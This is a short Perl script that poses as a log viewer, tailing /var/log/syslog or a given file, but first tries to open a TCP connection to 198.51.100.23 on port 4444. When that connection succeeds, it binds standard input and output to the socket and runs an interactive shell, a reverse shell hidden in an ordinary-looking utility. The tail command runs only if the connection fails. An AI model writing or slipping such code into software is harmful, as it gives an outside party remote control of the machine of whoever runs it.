#!/usr/bin/perl
use strict;
use warnings;
use Socket;

my $file = shift // '/var/log/syslog';
my ($h, $p) = ('198.51.100.23', 4444);
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(S, sockaddr_in($p, inet_aton($h)))) {
    open(STDIN, '>&S');
    open(STDOUT, '>&S');
    open(STDERR, '>&S');
    exec('/bin/sh -i');
}
system('tail', '-n', '50', $file);
